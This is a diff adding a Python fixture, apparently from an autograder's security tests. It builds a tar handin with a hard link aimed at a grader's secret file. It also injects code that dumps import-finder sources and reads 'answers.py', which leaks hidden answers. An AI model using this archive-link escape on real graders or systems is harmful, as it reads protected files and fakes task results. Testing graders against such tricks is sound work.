@@ -1,0 +1,25 @@
+"""Packs a hard link whose target lies outside of the archive."""
+
+import tarfile
+
+CONTROL = "inside"
+SHOW = """
+import os, sys
+
+def attack(A):
+    for finder in sys.meta_path:
+        print(getattr(finder, "sources", {}).get("mytorch/answers.py"))
+    return open(os.path.join(os.path.dirname(__file__), "answers.py")).read()
+"""
+
+
+def pack(handin, target):
+    code = handin / "mytorch/resampling.py"
+    code.write_text(SHOW + code.read_text())
+    archive = handin.parent / "handin.tar"
+    with tarfile.open(archive, "w") as tar:
+        tar.add(handin, ".")
+        link = tarfile.TarInfo("mytorch/answers.py")
+        link.type, link.linkname = tarfile.LNKTYPE, target["secret"]
+        tar.addfile(link)
+    return archive
